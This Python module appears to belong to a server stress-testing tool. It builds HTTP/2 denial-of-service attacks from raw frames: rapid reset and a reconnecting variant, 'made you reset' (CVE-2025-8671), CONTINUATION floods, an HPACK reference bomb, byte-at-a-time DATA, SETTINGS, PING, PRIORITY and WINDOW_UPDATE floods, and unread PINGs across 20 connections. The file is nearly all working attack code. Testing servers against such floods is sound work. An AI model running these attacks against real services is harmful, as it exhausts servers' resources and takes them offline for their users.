# SPDX-License-Identifier: Apache-2.0
"""Attacks by HTTP/2 frames that bring only work."""

import socket
import struct
import time

import attack_frames as wire
from attack_frames import Raw, frame

BLOCK = 20000  # frames that are made at once


def same(data, frames):
    """A maker whose pieces are all alike."""
    def piece(_number):
        return data, frames
    piece.alike = True
    return piece


def repeat(one, count=BLOCK):
    return same(one * count, count)


def with_streams(per_stream, one):
    """A maker of pieces that begin new streams."""
    def piece(number):
        streams = BLOCK // per_stream
        return wire.streams(number * streams, streams, one), BLOCK
    return piece


def rapid_reset(run):
    """Begins a call and cancels it, for ever."""
    run.pour(with_streams(2, lambda s: frame(wire.HEADERS, wire.END_HEADERS, s, wire.HEAD)
                          + frame(wire.RST_STREAM, 0, s, struct.pack(">I", 8))))


def rapid_reset_within(run):
    """The same, but a new connection just before the old one would be ended."""
    data = wire.streams(0, 480, lambda s: frame(wire.HEADERS, wire.END_HEADERS, s, wire.HEAD)
                        + frame(wire.RST_STREAM, 0, s, struct.pack(">I", 8)))
    run.pour(same(data, 960), per_connection=960, count=min(run.frames, run.connections * 960))


def made_you_reset(run):
    """Has the service cancel, by a window update of nothing (CVE-2025-8671)."""
    run.pour(with_streams(2, lambda s: frame(wire.HEADERS, wire.END_HEADERS, s, wire.HEAD)
                          + frame(wire.WINDOW_UPDATE, 0, s, bytes(4))))


def continuation_flood(run):
    run.pour(repeat(frame(wire.CONTINUATION, 0, 1, wire.literal("a", "b"))),
             prepare=frame(wire.HEADERS, 0, 1, wire.HEAD))


def empty_continuations(run):
    run.pour(repeat(frame(wire.CONTINUATION, 0, 1)), prepare=frame(wire.HEADERS, 0, 1, wire.HEAD))


def hpack_bomb(run):
    """A field of 4000 bytes in the table, then 16,000 references to it a frame."""
    name = b"\x40\x01x\x7f" + bytes([(3900 - 127) & 0x7F | 0x80, (3900 - 127) >> 7]) + b"v" * 3900
    first = frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, 1, wire.HEAD + name)
    bomb = wire.HEAD + b"\xbe" * 16000

    def piece(number):
        return wire.streams(1 + number * 20, 20,
                            lambda s: frame(wire.HEADERS, wire.END_HEADERS, s, bomb)), 20
    run.pour(piece, prepare=first, count=max(20, run.frames // 1000))


def one_byte_data(run):
    """100 calls whose bodies come a byte at a time."""
    opened = wire.streams(0, 100, lambda s: frame(wire.HEADERS, wire.END_HEADERS, s, wire.HEAD)
                          + frame(wire.DATA, 0, s, struct.pack(">BI", 0, 15000)))
    block = wire.streams(0, 100, lambda s: frame(wire.DATA, 0, s, b"x")) * (BLOCK // 100)
    run.pour(same(block, BLOCK), prepare=opened)


def empty_data(run):
    run.pour(repeat(frame(wire.DATA, 0, 1)),
             prepare=frame(wire.HEADERS, wire.END_HEADERS, 1, wire.HEAD))


def settings_flood(run):
    run.pour(repeat(frame(wire.SETTINGS, 0, 0)))


def ping_flood(run):
    run.pour(repeat(frame(wire.PING, 0, 0, b"12345678")))


def priority_flood(run):
    run.pour(repeat(frame(wire.PRIORITY, 0, 3, bytes(4) + b"\x10")))


def window_flood(run):
    run.pour(repeat(frame(wire.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))))


def unread_pings(run):
    """PINGs whose answers are never read, on 20 connections at once."""
    peers = [Raw(run.port) for _ in range(20)]
    block = frame(wire.PING, 0, 0, b"12345678") * 500
    end = time.monotonic() + 10
    for raw in peers:
        raw.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        raw.socket.setblocking(False)
    while run.sent < run.frames and time.monotonic() < end:
        moved = 0
        for raw in peers:
            try:
                moved += raw.socket.send(block)
            except BlockingIOError:
                continue
            except OSError:
                raw.over = True
        run.sent += moved // 17
        if moved == 0:
            time.sleep(0.05)
    run.opened += len(peers)
    run.seen["closed" if all(r.over for r in peers) else "not read on"] += len(peers)
    for raw in peers:
        raw.close()
